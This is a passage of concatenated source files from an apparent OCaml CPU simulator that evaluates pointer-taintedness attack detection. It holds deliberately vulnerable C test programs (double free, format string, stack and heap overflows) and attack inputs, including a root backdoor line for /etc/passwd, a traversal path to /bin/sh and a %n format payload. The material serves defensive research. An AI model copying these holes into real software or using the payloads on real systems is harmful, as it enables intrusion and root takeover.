             env.e_a <- breg;
             env.e_b <- ea
           end
           else if ea land 3 <> 0 then begin
             env.e_ev <- ev_misalign;
             env.e_rel <- rel;
             env.e_a <- ea;
             env.e_b <- 4
           end
           else begin
             env.e_rel <- rel;
             let w = TS.load_word_elt env.e_ts ea in
             if w land tag_bits <> 0 then begin
               env.e_st.M.tainted_loads <- env.e_st.M.tainted_loads + 1;
               if rd <> 0 then
                 if track then begin
                   Array.unsafe_set regs rd w;
                   Regfile.mark env.e_rf rd ~m:(w lsr 32)
                 end
                 else begin
                   Array.unsafe_set regs rd (w land m32);
                   Regfile.mark_clean env.e_rf rd
                 end;
               nx env
             end
             else begin
               if rd <> 0 then begin
                 Array.unsafe_set regs rd w;
                 Regfile.mark_clean env.e_rf rd
               end;
               nx env
             end
           end
       | op ->
         let align = match op with Block.Olh | Block.Olhu -> 1 | _ -> 0 in
         let vmask = if align = 1 then 0xffff else 0xff in
         let sbits = match op with Block.Olb -> 8 | Block.Olh -> 16 | _ -> 0 in
         fun env ->
           let regs = env.e_regs in
           let a = Array.unsafe_get regs breg in
           let ea = (a + off) land m32 in
           if dd && a land tag_bits <> 0 then begin
             env.e_ev <- ev_load_alert;
             env.e_rel <- rel;
             env.e_a <- breg;
             env.e_b <- ea
           end
           else if ea land align <> 0 then begin
             env.e_ev <- ev_misalign;
             env.e_rel <- rel;
             env.e_a <- ea;
             env.e_b <- 2
           end
           else begin
             env.e_rel <- rel;
             let el =
               if align = 1 then Tword.to_bits (TS.load_half_even env.e_ts ea)
               else Tword.to_bits (TS.load_byte_tw env.e_ts ea)
             in
             let w =
               if sbits = 0 then el
               else ((el lsr 32) lsl 32) lor Word.sign_extend ~bits:sbits (el land vmask)
             in
             if w land tag_bits <> 0 then
               env.e_st.M.tainted_loads <- env.e_st.M.tainted_loads + 1;
             if rd <> 0 then
               if track then begin
                 Array.unsafe_set regs rd w;
                 Regfile.mark env.e_rf rd ~m:(w lsr 32)
               end
               else begin
                 Array.unsafe_set regs rd (w land m32);
                 Regfile.mark_clean env.e_rf rd
               end;
             nx env
           end)
    | Block.Osw ->
      let rt = f1 and breg = f2 and off = f3 in
      fun env ->
        let regs = env.e_regs in
        let a = Array.unsafe_get regs breg in
        let ea = (a + off) land m32 in
        if dd && a land tag_bits <> 0 then begin
          env.e_ev <- ev_store_alert;
          env.e_rel <- rel;
          env.e_a <- breg;
          env.e_b <- ea
        end
        else if ea land 3 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 4
        end
        else begin
          let data =
            if track then Array.unsafe_get regs rt
            else Array.unsafe_get regs rt land m32
          in
          if
            dd_guard && data land tag_bits <> 0 && env.e_has_guards
            && guarded env.e_guards ea 4
          then begin
            env.e_ev <- ev_guard_alert;
            env.e_rel <- rel;
            env.e_a <- rt;
            env.e_b <- ea
          end
          else begin
            env.e_rel <- rel;
            TS.store_word_aligned env.e_ts ea (Tword.of_bits data);
            if data land tag_bits <> 0 then
              env.e_st.M.tainted_stores <- env.e_st.M.tainted_stores + 1;
            nx env
          end
        end
    | Block.Osb ->
      let rt = f1 and breg = f2 and off = f3 in
      fun env ->
        let regs = env.e_regs in
        let a = Array.unsafe_get regs breg in
        let ea = (a + off) land m32 in
        if dd && a land tag_bits <> 0 then begin
          env.e_ev <- ev_store_alert;
          env.e_rel <- rel;
          env.e_a <- breg;
          env.e_b <- ea
        end
        else begin
          let data =
            if track then Array.unsafe_get regs rt
            else Array.unsafe_get regs rt land m32
          in
          if
            dd_guard && data land tag_bits <> 0 && env.e_has_guards
            && guarded env.e_guards ea 1
          then begin
            env.e_ev <- ev_guard_alert;
            env.e_rel <- rel;
            env.e_a <- rt;
            env.e_b <- ea
          end
          else begin
            env.e_rel <- rel;
            let taint = data land (1 lsl 32) <> 0 in
            TS.store_byte env.e_ts ea (data land 0xff) ~taint;
            if taint then
              env.e_st.M.tainted_stores <- env.e_st.M.tainted_stores + 1;
            nx env
          end
        end
    | Block.Osh ->
      let rt = f1 and breg = f2 and off = f3 in
      fun env ->
        let regs = env.e_regs in
        let a = Array.unsafe_get regs breg in
        let ea = (a + off) land m32 in
        if dd && a land tag_bits <> 0 then begin
          env.e_ev <- ev_store_alert;
          env.e_rel <- rel;
          env.e_a <- breg;
          env.e_b <- ea
        end
        else if ea land 1 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 2
        end
        else begin
          let data =
            if track then Array.unsafe_get regs rt
            else Array.unsafe_get regs rt land m32
          in
          if
            dd_guard && data land tag_bits <> 0 && env.e_has_guards
            && guarded env.e_guards ea 2
          then begin
            env.e_ev <- ev_guard_alert;
            env.e_rel <- rel;
            env.e_a <- rt;
            env.e_b <- ea
          end
          else begin
            env.e_rel <- rel;
            let m = data lsr 32 in
            TS.store_half_even env.e_ts ea (data land m32) ~m;
            (* parity with the interpreter: the tainted-store counter
               tests the full 4-byte mask, not the stored pair *)
            if m <> 0 then
              env.e_st.M.tainted_stores <- env.e_st.M.tainted_stores + 1;
            nx env
          end
        end
    | Block.Omult | Block.Omultu | Block.Odiv | Block.Odivu ->
      let rs = f1 and rt = f2 in
      let op = Array.unsafe_get ops i in
      let hi_lo av bv =
        match op with
        | Block.Omult -> (Word.mul_hi_signed av bv, Word.mul_lo av bv)
        | Block.Omultu -> (Word.mul_hi_unsigned av bv, Word.mul_lo av bv)
        | Block.Odiv ->
          let q, r = Word.div_signed av bv in
          (r, q)
        | _ ->
          let q, r = Word.div_unsigned av bv in
          (r, q)
      in
      fun env ->
        let regs = env.e_regs in
        let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
        let hi, lo = hi_lo (a land m32) (b land m32) in
        let m = if track then (a lsr 32) lor (b lsr 32) else 0 in
        Array.unsafe_set regs 32 (hi lor (m lsl 32));
        Array.unsafe_set regs 33 (lo lor (m lsl 32));
        Regfile.mark env.e_rf 32 ~m;
        Regfile.mark env.e_rf 33 ~m;
        nx env
    | Block.Omfhi | Block.Omflo ->
      let rd = f1 in
      let src = if Array.unsafe_get ops i = Block.Omfhi then 32 else 33 in
      if rd = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          let w = Array.unsafe_get regs src in
          Array.unsafe_set regs rd w;
          Regfile.mark env.e_rf rd ~m:(w lsr 32);
          nx env
    | Block.Omthi | Block.Omtlo ->
      let rs = f1 in
      let dst = if Array.unsafe_get ops i = Block.Omthi then 32 else 33 in
      fun env ->
        let regs = env.e_regs in
        let w = Array.unsafe_get regs rs in
        Array.unsafe_set regs dst w;
        Regfile.mark env.e_rf dst ~m:(w lsr 32);
        nx env
    | Block.Obeq | Block.Obne | Block.Oblez | Block.Obgtz | Block.Obltz
    | Block.Obgez | Block.Oj | Block.Ojal | Block.Ojr | Block.Ojalr
    | Block.Osyscall | Block.Obreak ->
      assert false
  in
  (* --- clean-variant straight-line instructions ---

     Pure value semantics on the raw slot array: while both live-taint
     counters are zero, no instruction can create taint and no
     detector can fire, so there is no mask algebra, no bitmap
     maintenance (every write keeps the invariant [tmap = 0]), no
     guard walk, and the data plane is accessed through the [*_clean]
     accessors.  Misalignment and unmapped faults behave exactly like
     the full variant. *)
  let mk_clean i (nx : code) : code =
    let rel = i - idx in
    let f1 = Array.unsafe_get fa i
    and f2 = Array.unsafe_get fb i
    and f3 = Array.unsafe_get fc i in
    match Array.unsafe_get ops i with
    | Block.Onop -> nx
    | Block.Oadd ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            ((Array.unsafe_get regs f2 + Array.unsafe_get regs f3) land m32);
          nx env
    | Block.Osub ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            ((Array.unsafe_get regs f2 - Array.unsafe_get regs f3) land m32);
          nx env
    | Block.Oand ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (Array.unsafe_get regs f2 land Array.unsafe_get regs f3);
          nx env
    | Block.Oor ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (Array.unsafe_get regs f2 lor Array.unsafe_get regs f3);
          nx env
    | Block.Oxor ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (Array.unsafe_get regs f2 lxor Array.unsafe_get regs f3);
          nx env
    | Block.Onor ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (lnot (Array.unsafe_get regs f2 lor Array.unsafe_get regs f3) land m32);
          nx env
    | Block.Oslt ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (if Word.lt_signed (Array.unsafe_get regs f2) (Array.unsafe_get regs f3)
             then 1
             else 0);
          nx env
    | Block.Osltu ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (if Array.unsafe_get regs f2 < Array.unsafe_get regs f3 then 1 else 0);
          nx env
    | Block.Osllv | Block.Osrlv | Block.Osrav ->
      let op = Array.unsafe_get ops i in
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs f2 and n = Array.unsafe_get regs f3 in
          Array.unsafe_set regs f1
            (match op with
             | Block.Osllv -> Word.sll av n
             | Block.Osrlv -> Word.srl av n
             | _ -> Word.sra av n);
          nx env
    | Block.Oaddi ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 ((Array.unsafe_get regs f2 + f3) land m32);
          nx env
    | Block.Oandi ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 (Array.unsafe_get regs f2 land f3);
          nx env
    | Block.Oori ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 (Array.unsafe_get regs f2 lor f3);
          nx env
    | Block.Oxori ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 (Array.unsafe_get regs f2 lxor f3);
          nx env
    | Block.Oslti ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1
            (if Word.lt_signed (Array.unsafe_get regs f2) f3 then 1 else 0);
          nx env
    | Block.Osltiu ->
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 (if Array.unsafe_get regs f2 < f3 then 1 else 0);
          nx env
    | Block.Osll | Block.Osrl | Block.Osra ->
      let op = Array.unsafe_get ops i in
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs f2 in
          Array.unsafe_set regs f1
            (match op with
             | Block.Osll -> Word.sll av f3
             | Block.Osrl -> Word.srl av f3
             | _ -> Word.sra av f3);
          nx env
    | Block.Olui ->
      if f1 = 0 then nx
      else
        fun env ->
          Array.unsafe_set env.e_regs f1 f3;
          nx env
    | Block.Olw ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        if ea land 3 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 4
        end
        else begin
          env.e_rel <- rel;
          let v = TS.load_word_clean_aligned env.e_ts ea in
          if f1 <> 0 then Array.unsafe_set regs f1 v;
          nx env
        end
    | Block.Olb ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        env.e_rel <- rel;
        let v = TS.load_byte_clean env.e_ts ea in
        if f1 <> 0 then Array.unsafe_set regs f1 (Word.sign_extend ~bits:8 v);
        nx env
    | Block.Olbu ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        env.e_rel <- rel;
        let v = TS.load_byte_clean env.e_ts ea in
        if f1 <> 0 then Array.unsafe_set regs f1 v;
        nx env
    | Block.Olh | Block.Olhu ->
      let sign = Array.unsafe_get ops i = Block.Olh in
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        if ea land 1 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 2
        end
        else begin
          env.e_rel <- rel;
          let v = TS.load_half_clean_even env.e_ts ea in
          if f1 <> 0 then
            Array.unsafe_set regs f1 (if sign then Word.sign_extend ~bits:16 v else v);
          nx env
        end
    | Block.Osw ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        if ea land 3 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 4
        end
        else begin
          env.e_rel <- rel;
          TS.store_word_clean_aligned env.e_ts ea (Array.unsafe_get regs f1);
          nx env
        end
    | Block.Osb ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        env.e_rel <- rel;
        TS.store_byte_clean env.e_ts ea (Array.unsafe_get regs f1);
        nx env
    | Block.Osh ->
      fun env ->
        let regs = env.e_regs in
        let ea = (Array.unsafe_get regs f2 + f3) land m32 in
        if ea land 1 <> 0 then begin
          env.e_ev <- ev_misalign;
          env.e_rel <- rel;
          env.e_a <- ea;
          env.e_b <- 2
        end
        else begin
          env.e_rel <- rel;
          TS.store_half_clean_even env.e_ts ea (Array.unsafe_get regs f1);
          nx env
        end
    | Block.Omult | Block.Omultu | Block.Odiv | Block.Odivu ->
      let op = Array.unsafe_get ops i in
      fun env ->
        let regs = env.e_regs in
        let av = Array.unsafe_get regs f1 and bv = Array.unsafe_get regs f2 in
        let hi, lo =
          match op with
          | Block.Omult -> (Word.mul_hi_signed av bv, Word.mul_lo av bv)
          | Block.Omultu -> (Word.mul_hi_unsigned av bv, Word.mul_lo av bv)
          | Block.Odiv ->
            let q, r = Word.div_signed av bv in
            (r, q)
          | _ ->
            let q, r = Word.div_unsigned av bv in
            (r, q)
        in
        Array.unsafe_set regs 32 hi;
        Array.unsafe_set regs 33 lo;
        nx env
    | Block.Omfhi | Block.Omflo ->
      let src = if Array.unsafe_get ops i = Block.Omfhi then 32 else 33 in
      if f1 = 0 then nx
      else
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs f1 (Array.unsafe_get regs src);
          nx env
    | Block.Omthi | Block.Omtlo ->
      let dst = if Array.unsafe_get ops i = Block.Omthi then 32 else 33 in
      fun env ->
        let regs = env.e_regs in
        Array.unsafe_set regs dst (Array.unsafe_get regs f1);
        nx env
    | Block.Obeq | Block.Obne | Block.Oblez | Block.Obgtz | Block.Obltz
    | Block.Obgez | Block.Oj | Block.Ojal | Block.Ojr | Block.Ojalr
    | Block.Osyscall | Block.Obreak ->
      assert false
  in
  let fullc = ref (mk_term ~clean:false) in
  let cleanc = ref (mk_term ~clean:true) in
  for i = term - 1 downto idx do
    fullc := mk_full i !fullc;
    cleanc := mk_clean i !cleanc
  done;
  let full_code = !fullc and clean_code = !cleanc in
  (* Entry point: one fuel test for the whole superblock, one variant
     selection per entry (which doubles as the taint-transition
     invalidation rule), counters for the driver to flush.  The
     block-constant load/store stats are flushed here, up front — on
     the rare mid-block exit the driver subtracts the unexecuted
     suffix, so the common case pays no per-access counting and no
     separate flush closure. *)
  let go env =
    if env.e_fuel < len then begin
      env.e_ev <- ev_fuel;
      env.e_next_pc <- spc
    end
    else begin
      env.e_fuel <- env.e_fuel - len;
      env.e_cur <- idx;
      env.e_blocks <- env.e_blocks + 1;
      if nl > 0 then env.e_st.M.loads <- env.e_st.M.loads + nl;
      if ns > 0 then env.e_st.M.stores <- env.e_st.M.stores + ns;
      if Regfile.is_clean env.e_rf && TS.tainted_bytes env.e_ts = 0 then begin
        env.e_cleans <- env.e_cleans + 1;
        if env.e_mode = 1 then env.e_deopts <- env.e_deopts + 1;
        env.e_mode <- 0;
        clean_code env
      end
      else begin
        if env.e_mode = 0 then env.e_deopts <- env.e_deopts + 1;
        env.e_mode <- 1;
        full_code env
      end
    end
  in
  let sb = { sb_pc = spc; sb_idx = idx; sb_len = len; sb_go = go; sb_slots = slots } in
  Array.unsafe_set sbs idx sb;
  sb
