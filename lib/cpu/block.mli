(** Pre-decoded basic blocks for the block-threaded execution engine.

    The text segment is decoded once per machine into flat handler
    records: one {!opcode} plus up to three pre-extracted integer
    fields per instruction (immediates already sign-extended, branch
    offsets already scaled, [lui] values already shifted), and a
    [stops] table giving every entry index the position of the first
    block terminator (branch / jump / syscall / break) at or after
    it.  {!Machine.run} dispatches once per block instead of once per
    instruction and advances through the straight-line body without
    re-resolving the pc.

    The analysis is pure: it never changes execution semantics, it
    only re-represents {!Ptaint_isa.Insn.t} values in a form the bulk
    interpreter can walk without re-matching nested constructors.  The
    original instructions are kept alongside for alert records and
    diagnostics. *)

(** Flat, single-level opcode.  [ADD]/[ADDU] (and [SUB]/[SUBU],
    [ADDI]/[ADDIU]) collapse to one opcode because the simulator
    gives them identical semantics (no overflow traps). *)
type opcode =
  | Onop
  | Oadd | Osub | Oand | Oor | Oxor | Onor | Oslt | Osltu
  | Osllv | Osrlv | Osrav
  | Oaddi | Oandi | Oori | Oxori | Oslti | Osltiu
  | Osll | Osrl | Osra
  | Olui
  | Olb | Olbu | Olh | Olhu | Olw
  | Osb | Osh | Osw
  | Omult | Omultu | Odiv | Odivu
  | Omfhi | Omflo | Omthi | Omtlo
  (* terminators *)
  | Obeq | Obne | Oblez | Obgtz | Obltz | Obgez
  | Oj | Ojal | Ojr | Ojalr
  | Osyscall | Obreak

type t = {
  base : int;            (** text base address *)
  n : int;               (** number of instructions *)
  ops : opcode array;
  fa : int array;        (** field 1: rd / rt / rs / target / code *)
  fb : int array;        (** field 2: rs / rt / base register *)
  fc : int array;        (** field 3: pre-processed immediate / offset / shamt *)
  stops : int array;
      (** [stops.(i)] is the index of the first terminator at or
          after [i], or [n] when the straight-line run falls off the
          end of the text segment.  The block entered at [i] is
          [\[i, stops.(i)\]] inclusive of the terminator. *)
  insns : Ptaint_isa.Insn.t array;  (** originals, for alert records *)
  counts : int array;
      (** Superblock-tier hotness counters, one per entry index.
          Bumped by the interpreting dispatcher until the entry is
          promoted to a translated superblock.  Shared (racily, with
          benign lost updates) across every machine and domain
          executing the same decoded program, so counts warm up
          across jobs exactly like the snapshot pages do. *)
}

val analyze : base:int -> Ptaint_isa.Insn.t array -> t

val index_of : base:int -> len:int -> int -> int
(** [index_of ~base ~len pc] is the instruction index of [pc] in a
    text segment of [len] instructions starting at [base], or [-1]
    when [pc] is below the base, misaligned, or past the end.  This
    is the single bounds-checked pc→index rule shared by
    {!Machine.fetch}, the per-step engine and the block engine, so
    the block cutter can never disagree with the stepper. *)

val is_terminator : Ptaint_isa.Insn.t -> bool
(** Instructions that end a basic block: branches, jumps, [syscall],
    [break]. *)
