(** Five-stage in-order pipeline timing model (Figure 3).

    Layers cycle accounting over {!Machine}: instruction fetch goes
    through the L1I/L2 hierarchy, loads and stores through L1D/L2;
    taken control transfers flush the front end; a load immediately
    followed by a consumer stalls one cycle.  Taintedness tracking
    adds {e zero} cycles — the paper argues the OR-gate propagation
    and the single-bit detector checks are off the critical path
    (section 5.4) — but the model counts how many taint-gate
    operations the hardware would perform so the claim can be
    quantified. *)

type t

type stats = {
  mutable cycles : int;
  mutable instructions : int;
  mutable load_use_stalls : int;
  mutable control_flushes : int;
  mutable taint_gate_ops : int;
      (** OR-gate propagation events + detector checks performed *)
  mutable detector_checks : int;
}

val create : ?memory_latency:int -> Machine.t -> t
val step : t -> Machine.step
(** Executes one instruction on the wrapped machine and charges
    cycles.  A detected attack charges the full pipeline depth (the
    exception is raised at retirement). *)

val stats : t -> stats
val cpi : t -> float
val icache : t -> Ptaint_mem.Cache.t
val dcache : t -> Ptaint_mem.Cache.t
