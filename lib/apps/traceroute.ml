let attack_argv = [ "traceroute"; "-g"; "123"; "-g"; "5.6.7.8" ]
let benign_argv = [ "traceroute"; "10.0.0.1" ]

let source =
  {|
/* A traceroute-shaped CLI.  savestr() does its own sub-allocation out
   of a malloc'd pool; the gateway parser frees that pool after every
   -g option but keeps using it (the bid-1739 double free).  The
   second free leaves the allocator's bin threaded through memory the
   second gateway string was just copied over, so the next heap
   operation dereferences pointers made of command-line bytes. */

char *gateways[8];
int ngateways = 0;

char *savestr_pool = 0;
int savestr_used = 0;

char *savestr(char *s) {
  if (!savestr_pool) {
    savestr_pool = malloc(1024);
    savestr_used = 0;
  }
  char *p = savestr_pool + savestr_used;
  strcpy(p, s);
  savestr_used += strlen(s) + 1;
  return p;
}

void add_gateway(char *arg) {
  char *g = savestr(arg);
  if (ngateways < 8) {
    gateways[ngateways] = g;
    ngateways++;
  }
  /* BUG (bid 1739): from the second gateway on, g points into the
     middle of the savestr pool, yet it is passed to free() as if it
     were an independent allocation.  free() then reads a "chunk
     header" that is really the previous gateway string ("123\0" =
     0x00333231) and walks to a next-chunk address built from those
     command-line bytes. */
  if (ngateways > 1) free(g);
}

int main(int argc, char **argv) {
  char *target = 0;
  int i;
  for (i = 1; i < argc; i++) {
    if (strcmp(argv[i], "-g") == 0 && i + 1 < argc) {
      add_gateway(argv[i + 1]);
      i++;
    } else {
      target = argv[i];
    }
  }
  /* probe bookkeeping: first heap activity after parsing */
  char *packet = malloc(64);
  if (!packet) return 1;
  memset(packet, 0, 64);
  if (target) printf("traceroute to %s, 30 hops max\n", target);
  else printf("traceroute: no destination\n");
  for (i = 0; i < ngateways; i++) {
    printf("gateway %d: %s\n", i + 1, gateways[i]);
  }
  free(packet);
  return 0;
}
|}
