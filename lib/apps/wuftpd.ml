let uid_symbol = "session_uid"
let banner = "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready."
let passwd_path = "/etc/passwd"
let backdoor_line = "alice:x:0:0::/home/root:/bin/bash"

let source =
  {|
/* A WU-FTPD-shaped server.  The SITE EXEC handler passes the user's
   command text to the printf family as the format string — the
   CVE-2000-0573 class of bug. */

char current_user[32];
int session_uid = -1;

void reply(int s, char *msg) {
  fdprintf(s, "%s\r\n", msg);
}

void do_site_exec(int s, char *args) {
  char cmd[256];
  /* fixed-window copy of the command tail onto the stack (the stack
     residency is what lets the format engine's argument pointer walk
     into it) */
  memcpy(cmd, args, 256);
  cmd[255] = 0;
  fdprintf(s, "200-");
  fdprintf(s, cmd);            /* VULNERABLE: user text as format */
  fdprintf(s, "\r\n200 (end of 'SITE EXEC')\r\n");
}

void do_stor(int s, char *args) {
  if (session_uid != 0) {
    reply(s, "550 /etc/passwd: Permission denied.");
    return;
  }
  char *space = strchr(args, ' ');
  if (!space) {
    reply(s, "501 Syntax error.");
    return;
  }
  *space = 0;
  int fd = open(args, 1);
  if (fd < 0) {
    reply(s, "553 Could not create file.");
    return;
  }
  write(fd, space + 1, strlen(space + 1));
  close(fd);
  reply(s, "226 Transfer complete.");
}

int prefix(char *line, char *lower, char *upper) {
  int n = strlen(lower);
  if (strncmp(line, lower, n) == 0) return n;
  if (strncmp(line, upper, n) == 0) return n;
  return 0;
}

void handle_session(int s) {
  char line[512];
  int n;
  while (readline(s, line, 512) > 0) {
    int k;
    k = prefix(line, "user ", "USER ");
    if (k) {
      strncpy(current_user, line + k, 31);
      fdprintf(s, "331 Password required for %s .\r\n", current_user);
      continue;
    }
    k = prefix(line, "pass ", "PASS ");
    if (k) {
      if (strcmp(current_user, "user1") == 0 && strcmp(line + k, "xxxxxxx") == 0) {
        session_uid = 1001;
        fdprintf(s, "230 User %s logged in.\r\n", current_user);
      } else {
        reply(s, "530 Login incorrect.");
      }
      continue;
    }
    k = prefix(line, "site exec ", "SITE EXEC ");
    if (k) {
      if (session_uid < 0) {
        reply(s, "530 Please login with USER and PASS.");
      } else {
        do_site_exec(s, line + k);
      }
      continue;
    }
    k = prefix(line, "stor ", "STOR ");
    if (k) {
      do_stor(s, line + k);
      continue;
    }
    k = prefix(line, "quit", "QUIT");
    if (k) {
      reply(s, "221 Goodbye.");
      return;
    }
    reply(s, "500 Unknown command.");
  }
}

int main(void) {
  int ls = socket();
  int c;
  while ((c = accept(ls)) >= 0) {
    fdprintf(c, "%s\r\n",
             "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.");
    handle_session(c);
    close(c);
  }
  return 0;
}
|}

let login_session = [ "user user1\n"; "pass xxxxxxx\n" ]
let site_exec payload = "site exec " ^ payload ^ "\n"
let stor_passwd = Printf.sprintf "stor %s %s\n" passwd_path backdoor_line
