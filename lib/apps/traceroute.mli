(** LBNL traceroute analogue: the [-g] gateway double-free
    (securityfocus bid 1739).

    [savestr] hands out pieces of one pre-allocated pool, but the
    gateway parser passes those interior pointers to [free] as if each
    were its own allocation ("free()-ing of a heap buffer not
    allocated by malloc()").  The fake chunk header [free] reads is
    the previous gateway string — "123\000" = 0x00333231 — so the
    walk to the "next chunk" dereferences an address built from
    tainted command-line bytes.  Crash if unprotected; alert on the
    tainted-pointer load under pointer taintedness. *)

val source : string

val attack_argv : string list
(** [traceroute -g 123 -g 5.6.7.8] — the paper's invocation. *)

val benign_argv : string list
