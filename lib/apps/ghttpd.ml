let request_buffer_symbol = None
let log_buffer_bytes = 200
let overflow_to_url = 200
let cgi_prefix = "/usr/local/ghttpd"
let attack_tail = "/cgi-bin/../../../../bin/sh"

let source =
  {|
/* A GHTTPD-shaped server.  serveconnection keeps the request in a
   big stack buffer; handle_request copies the request line into a
   200-byte log buffer with no bound (the bid-5960 Log() bug).  The
   url pointer local sits right above that buffer, so a 204-byte
   request line replaces it without touching the saved frame pointer
   or return address. */

int contains_dotdot(char *u) {
  return strstr(u, "/..") != 0;
}

char *parse_url(char *req) {
  if (strncmp(req, "GET ", 4) != 0) return 0;
  char *url = req + 4;
  char *end = strchr(url, '\n');
  if (end) *end = 0;              /* URL is the rest of the request line */
  return url;
}

/* copy one request line for the access log — unbounded, the bug */
void copy_log_line(char *dst, char *src) {
  int i = 0;
  while (src[i] && src[i] != '\n') {
    dst[i] = src[i];
    i++;
  }
  dst[i] = 0;
}

void serve_url(int s, char *url) {
  if (url[0] != '/') {              /* first dereference of url */
    fdprintf(s, "HTTP/1.0 400 Bad Request\r\n\r\n");
    return;
  }
  if (strncmp(url, "/cgi-bin/", 9) == 0) {
    char full[256];
    sprintf(full, "/usr/local/ghttpd%s", url);
    exec(full);
    fdprintf(s, "HTTP/1.0 200 OK\r\n\r\ncgi executed\r\n");
    return;
  }
  fdprintf(s, "HTTP/1.0 200 OK\r\n\r\nstatic content\r\n");
}

void handle_request(int s, char *request) {
  char *url;
  char logline[200];
  url = parse_url(request);
  if (!url) {
    fdprintf(s, "HTTP/1.0 400 Bad Request\r\n\r\n");
    return;
  }
  /* security policy: no escaping the document root */
  if (contains_dotdot(url)) {
    fdprintf(s, "HTTP/1.0 403 Forbidden\r\n\r\n");
    return;
  }
  copy_log_line(logline, request);   /* OVERFLOW: may rewrite url */
  serve_url(s, url);
}

int main(void) {
  char request[4096];
  int ls = socket();
  int c;
  while ((c = accept(ls)) >= 0) {
    int n = recv(c, request, 4095, 0);
    if (n > 0) {
      request[n] = 0;
      handle_request(c, request);
    }
    close(c);
  }
  return 0;
}
|}
