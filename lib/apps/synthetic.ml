(* Frame-layout facts used below (see Cgen): the first declared local
   sits highest (just under the saved FP at fp+0 and the return
   address at fp+4); arrays are contiguous; [gets] stops only at
   newline/EOF, so NUL bytes travel fine. *)

let exp1 =
  {|
/* Figure 2, stack buffer overflow (paper exp1).  buf[10] occupies
   fp-12..fp-3; input bytes 12..15 hit the saved frame pointer and
   16..19 the return address. */

void root_shell(void) {
  /* what a ret2libc payload jumps to when nothing stops it */
  puts("root shell: executing /bin/sh");
  exec("/bin/sh");
  exit(99);
}

void exp1(void) {
  char buf[10];
  gets(buf);
  printf("input accepted: %s\n", buf);
}

int main(void) {
  exp1();
  puts("exp1 returned normally");
  return 0;
}
|}

let exp1_buffer_to_fp = 12
let exp1_buffer_to_ra = 16
let root_shell_symbol = "root_shell"

let exp2 =
  {|
/* Figure 2, heap corruption (paper exp2).  malloc(8) returns a chunk
   with a 12-byte user area; the free chunk behind it begins 12 bytes
   past the buffer, so overflowing input rewrites that chunk's size,
   fd and bk.  free(buf) then forward-coalesces: it unlinks the "free"
   neighbour and performs FD->bk = BK through the tainted fd. */

void exp2(void) {
  char *buf = malloc(8);
  char *scratch = malloc(64);
  free(scratch);                /* leaves a free chunk after buf */
  gets(buf);                    /* unchecked copy into the 8-byte buffer */
  free(buf);                    /* unlink of the corrupted neighbour */
  puts("exp2 done");
}

int main(void) {
  exp2();
  return 0;
}
|}

let exp2_user_to_next_header = 12

let exp3 =
  {|
/* Figure 2, format string (paper exp3).  The three int locals under
   buf mean vformat's argument pointer starts exactly three words
   below the tainted buffer: the paper's payload abcd%x%x%x%n walks
   over them and %n dereferences 0x64636261 ("abcd"). */

void exp3(int s) {
  char buf[100];
  int len;
  int i;
  int directives;
  memset(buf, 0, 100);
  len = recv(s, buf, 100, 0);
  directives = 0;
  for (i = 0; i < len; i++) {
    if (buf[i] == '%') directives++;
  }
  printf(buf);                  /* user data used as the format string */
}

int main(void) {
  int ls = socket();
  int c = accept(ls);
  if (c >= 0) exp3(c);
  puts("exp3 done");
  return 0;
}
|}

let exp4_fnptr =
  {|
/* Control-data variant: a stack function pointer right above a
   16-byte buffer.  The overflow replaces the pointer; the indirect
   call is a JALR on a tainted register, which both the paper's
   detector and a Minos-style control-data monitor catch. */

void root_shell(void) {
